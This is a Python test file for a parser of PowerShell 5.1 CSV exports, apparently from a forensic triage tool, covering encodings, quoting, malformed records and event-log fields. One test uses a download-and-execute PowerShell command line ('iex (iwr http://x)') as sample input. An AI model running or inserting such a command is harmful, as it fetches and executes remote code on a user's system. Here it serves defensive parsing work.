"""The PowerShell 5.1 CSV dialect, on exact bytes."""
from __future__ import annotations

import io

from triageparse.formats.pscsv import read_pscsv

from psbytes import c8, ca


def read(data: bytes):
    result, batches = read_pscsv(lambda: io.BytesIO(data), data[:65536])
    rows = [r for b in batches for r in b.table.to_pylist()]
    return result, rows


def test_utf8_bom_header_and_quoted_crlf_inside_a_value():
    data = c8(["EventID", "Message"], [["4624", "An account was successfully logged on.\r\n\r\nSubject:\r\n\tX"]])
    result, rows = read(data)
    assert result.header == ["EventID", "Message"]
    assert rows == [{"EventID": "4624", "Message": "An account was successfully logged on.\r\n\r\nSubject:\r\n\tX"}]


def test_null_and_empty_string_are_told_apart():
    result, rows = read(c8(["A", "Site", "Container"], [["x", None, ""]]))
    assert rows == [{"A": "x", "Site": None, "Container": ""}]


def test_utf16le_with_bom():
    data = b"\xff\xfe" + '"Name","Path"\r\n"J\u00fcrgen","C:\\Users\\J\u00fcrgen"\r\n'.encode("utf-16-le")
    result, rows = read(data)
    assert rows == [{"Name": "J\u00fcrgen", "Path": "C:\\Users\\J\u00fcrgen"}]


def test_ascii_export_keeps_question_marks():
    result, rows = read(ca(["Proc_Path", "Proc_Hash"], [["C:\\Users\\J\u00fcrgen\\a.exe", "AB"]]))
    assert rows[0]["Proc_Path"] == "C:\\Users\\J?rgen\\a.exe"


def test_doubled_quotes_are_unescaped():
    result, rows = read(c8(["CommandLine"], [['powershell.exe -c "iex (iwr http://x)"']]))
    assert rows[0]["CommandLine"] == 'powershell.exe -c "iex (iwr http://x)"'


def test_type_line_is_tolerated():
    data = b'#TYPE System.Diagnostics.EventLogEntry\r\n"EventID","Index"\r\n"7040","3362"\r\n'
    result, rows = read(data)
    assert result.type_line.startswith("#TYPE")
    assert rows == [{"EventID": "7040", "Index": "3362"}]


def test_repeated_header_names_are_all_kept():
    result, rows = read(c8(["Name", "name"], [["a", "b"]]))
    assert rows == [{"Name": "a", "name_2": "b"}]


def test_a_record_with_too_few_fields_is_rejected_with_its_line_and_the_rest_survive():
    data = b'\xef\xbb\xbf"A","B"\r\n"1","2"\r\n"3"\r\n"4","5"\r\n'
    result, rows = read(data)
    assert rows == [{"A": "1", "B": "2"}, {"A": "4", "B": "5"}]
    assert result.rejected == 1 and result.records == 3
    assert "1 fields" in result.issues[0].reason and result.issues[0].raw == '"3"'


def test_zero_byte_file_has_no_header_and_no_rows():
    result, rows = read(b"")
    assert result.header == [] and rows == []


def test_invalid_utf8_falls_back_to_the_tolerant_reader_without_losing_records():
    data = b'"A","B"\r\n"1","ok"\r\n"2","bad \xff byte"\r\n"3","ok"\r\n'
    result, rows = read(data)
    assert [r["A"] for r in rows] == ["1", "2", "3"]
    assert rows[1]["B"] == "bad \ufffd byte"
    assert result.fallback


def test_a_quote_never_closed_in_the_last_field_is_reported():
    data = b'"A","B"\r\n"1","ok"\r\n"2","cut off here\r\n'          # the copy stopped mid-value
    result, rows = read(data)
    assert rows == [{"A": "1", "B": "ok"}, {"A": "2", "B": "cut off here\r\n"}]
    assert any("never closed" in i.reason for i in result.issues)


def test_a_multi_line_message_is_not_mistaken_for_an_unclosed_quote():
    result, rows = read(c8(["EventID", "Message"], [["4624", "Logged on.\r\n\r\nSubject:\r\n\tX"]]))
    assert not result.issues
